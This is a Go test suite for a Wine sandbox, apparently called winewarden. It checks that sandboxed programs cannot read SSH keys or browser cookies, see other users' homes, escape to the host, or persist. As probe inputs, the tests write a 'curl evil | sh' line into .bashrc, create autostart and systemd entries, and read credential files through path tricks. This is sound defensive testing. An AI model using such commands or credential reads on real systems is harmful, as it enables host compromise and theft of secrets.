package tests

import (
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/winewarden/winewarden/audit"
)

func assertNoSecret(t *testing.T, e *env, r result) {
	t.Helper()
	if strings.Contains(r.stdout+r.stderr, e.secret) {
		t.Errorf("the real secret reached the sandbox:\n%s", r.stdout)
	}
}

func TestSecretUnreachableThroughZDrive(t *testing.T) {
	e := needWine(t)
	r := e.probe(t, nil, "read", winPath(filepath.Join(e.home, ".ssh", "id_rsa")))
	assertNoSecret(t, e, r)
	if !strings.Contains(r.stdout, "WINEWARDEN-DECOY") {
		t.Errorf("expected the decoy in place of the key, got:\n%s", r.stdout)
	}
	if !r.has(audit.KindSensitiveAccess, "~/.ssh/id_rsa") {
		t.Errorf("no sensitive_access event for ~/.ssh/id_rsa in the session log")
	}
}

func TestSecretUnreachableThroughUnixPrefix(t *testing.T) {
	e := needWine(t)
	r := e.probe(t, nil, "read", `\\?\unix`+filepath.Join(e.home, ".ssh", "id_rsa"))
	assertNoSecret(t, e, r)
	if !r.has(audit.KindSensitiveAccess, "~/.ssh/id_rsa") {
		t.Errorf("no sensitive_access event for ~/.ssh/id_rsa in the session log")
	}
}

func TestSecretUnreachableThroughRawSyscall(t *testing.T) {
	e := needWine(t)
	r := e.probe(t, nil, "rawread", filepath.Join(e.home, ".ssh", "id_rsa"))
	assertNoSecret(t, e, r)
	if !r.has(audit.KindSensitiveAccess, "~/.ssh/id_rsa") {
		t.Errorf("no sensitive_access event for ~/.ssh/id_rsa in the session log")
	}
	// A file outside the home that the view does not contain at all.
	r = e.probe(t, nil, "rawread", filepath.Join(e.root, "home", "bob", "bob-private.txt"))
	if !strings.Contains(r.stdout, "FAIL") || r.code == 0 {
		t.Errorf("raw open of another home succeeded:\n%s", r.stdout)
	}
}

func TestBrowserCookiesUnreachable(t *testing.T) {
	e := needWine(t)
	r := e.probe(t, nil, "read", winPath(filepath.Join(e.home, ".mozilla/firefox/real.default/cookies.sqlite")))
	assertNoSecret(t, e, r)
	if r.code == 0 {
		t.Errorf("reading the real Firefox profile succeeded:\n%s", r.stdout)
	}
}

func TestListingShowsOnlyVirtualHome(t *testing.T) {
	e := needWine(t)
	r := e.probe(t, nil, "list", winPath(filepath.Join(e.root, "home")))
	if strings.Contains(r.stdout, "bob") {
		t.Errorf("another user's home is visible:\n%s", r.stdout)
	}
	if !strings.Contains(r.stdout, "OK entry alice") {
		t.Errorf("the virtual home is missing from the listing:\n%s", r.stdout)
	}
	for _, dir := range []string{`Z:\home`, `Z:\root`} {
		r := e.probe(t, nil, "list", dir)
		for _, line := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(line, "OK entry ") {
				t.Errorf("%s lists %q; the sandbox shows no host home there", dir, strings.TrimPrefix(line, "OK entry "))
			}
		}
	}
}

// TestZDriveShowsOnlyTheView lists Z:\, the Linux root as Wine shows it:
// only the sandbox's own top-level directories may appear.
func TestZDriveShowsOnlyTheView(t *testing.T) {
	e := needWine(t)
	allowed := map[string]bool{
		"bin": true, "dev": true, "etc": true, "lib": true, "lib32": true, "lib64": true, "libx32": true,
		"opt": true, "proc": true, "run": true, "sbin": true, "sys": true, "tmp": true, "usr": true,
	}
	r := e.probe(t, nil, "list", `Z:\`)
	if r.code != 0 {
		t.Fatalf("listing Z:\\ failed (%d):\n%s", r.code, r.stdout)
	}
	for _, line := range strings.Split(r.stdout, "\n") {
		name, ok := strings.CutPrefix(line, "OK entry ")
		if ok && !allowed[strings.ToLower(name)] {
			t.Errorf("Z:\\ shows %q, which the sandbox's view does not contain", name)
		}
	}
}

func TestPersistenceLeavesHostFilesUnchanged(t *testing.T) {
	e := needWine(t)
	bashrc := filepath.Join(e.home, ".bashrc")
	before := readFile(t, bashrc)
	autostart := filepath.Join(e.home, ".config/autostart/x.desktop")
	unit := filepath.Join(e.home, ".config/systemd/user/x.service")

	e.probe(t, nil, "append", winPath(bashrc), "curl evil | sh")
	e.probe(t, nil, "mkdirs", winPath(filepath.Dir(autostart)))
	e.probe(t, nil, "write", winPath(autostart), "[Desktop Entry] Exec=evil")
	e.probe(t, nil, "mkdirs", winPath(filepath.Dir(unit)))
	e.probe(t, nil, "write", winPath(unit), "[Service] ExecStart=evil")

	if after := readFile(t, bashrc); after != before {
		t.Errorf("~/.bashrc changed:\n%q\nwant\n%q", after, before)
	}
	for _, p := range []string{autostart, unit} {
		if _, err := os.Lstat(p); !os.IsNotExist(err) {
			t.Errorf("%s exists on the host (err=%v)", p, err)
		}
	}
}

func TestStartUnixCannotTouchHost(t *testing.T) {
	e := needWine(t)
	marker := filepath.Join(e.root, "start-unix-marker")
	r := e.probe(t, nil, "exec", "cmd", "/c", "start", "/unix", "/bin/sh", "-c", "touch "+marker)
	time.Sleep(200 * time.Millisecond)
	if _, err := os.Lstat(marker); !os.IsNotExist(err) {
		t.Fatalf("start /unix created %s on the host (err=%v)\n%s", marker, err, r.stdout)
	}
}

func TestWrittenProgramCannotRun(t *testing.T) {
	e := needWine(t)
	dropped := filepath.Join(e.prefix, "drive_c", "users", "Public", "dropped-helper")
	e.probe(t, nil, "copy", winPath(e.helper), winPath(dropped))
	if _, err := os.Stat(dropped); err != nil {
		t.Fatalf("the probe could not write into its prefix: %v", err)
	}
	defer os.Remove(dropped)
	os.Chmod(dropped, 0o755)

	r := e.probe(t, nil, "rawexec", dropped)
	if !strings.Contains(r.stdout, "FAIL rawexec") || !strings.Contains(r.stdout, "errno=13") {
		t.Errorf("execve of a program written into the prefix: want EACCES (13), got:\n%s", r.stdout)
	}
	r = e.probe(t, nil, "exec", winPath(dropped))
	if strings.Contains(r.stdout, "OK exit 0") {
		t.Errorf("CreateProcess of a program written into the prefix ran it:\n%s", r.stdout)
	}
}

func TestDBusSessionBusUnreachable(t *testing.T) {
	e := needSandbox(t)
	bus := filepath.Join(e.runtime, "bus")
	_, accepted := listenAndWatch(t, "unix", bus)

	r := e.helperRun(t, []string{"DBUS_SESSION_BUS_ADDRESS=unix:path=" + bus}, "connect-unix", bus)
	if !strings.Contains(r.stdout, "FAIL") || r.code == 0 {
		t.Errorf("connecting to the session bus path succeeded:\n%s", r.stdout)
	}
	select {
	case <-accepted:
		t.Errorf("the host's session bus accepted a connection from the sandbox")
	case <-time.After(200 * time.Millisecond):
	}
}

func TestHostAbstractSocketUnreachable(t *testing.T) {
	e := needSandbox(t)
	name := "winewarden-test-" + filepath.Base(e.root)
	ln, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	r := e.helperRun(t, nil, "connect-abstract", name)
	if !strings.Contains(r.stdout, "FAIL") || r.code == 0 {
		t.Errorf("connecting to a host abstract socket succeeded:\n%s", r.stdout)
	}
}

// listenAndWatch listens on address and reports on the returned channel
// when something connects. The listener closes when the test ends.
func listenAndWatch(t *testing.T, network, address string) (net.Listener, <-chan struct{}) {
	t.Helper()
	ln, err := net.Listen(network, address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	return ln, accepted
}
